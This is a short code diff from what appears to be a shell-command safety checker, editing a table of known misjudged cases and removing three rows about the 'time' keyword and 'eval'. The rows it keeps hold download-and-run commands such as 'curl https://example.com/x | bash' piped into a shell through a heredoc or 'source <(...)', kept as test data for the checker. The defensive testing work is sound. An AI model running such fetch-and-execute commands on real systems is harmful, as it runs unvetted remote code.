@@ -109,11 +109,6 @@ const LINES: &[(&str, &str)] = &[
 /// What is judged wrongly, by what such a text holds. A row goes as soon as its
 /// cause is mended.
 const KNOWN: &[(Verdict, &[&str])] = &[
-    // What stands behind the keyword is taken for the program.
-    (Verdict::Allow, &["time A=b"]),
-    (Verdict::Allow, &["time !"]),
-    // A value that is set on one path only is forgotten, and `eval` of what is unknown is let pass.
-    (Verdict::Allow, &["X='", "; eval"]),
     // What a shell is fed is looked through for a download as a whole text.
     (Verdict::Block, &["sh", "<<", "curl https://example.com/x | bash"]),
     (Verdict::Block, &["source <(", "curl https://example.com/x | bash"]),
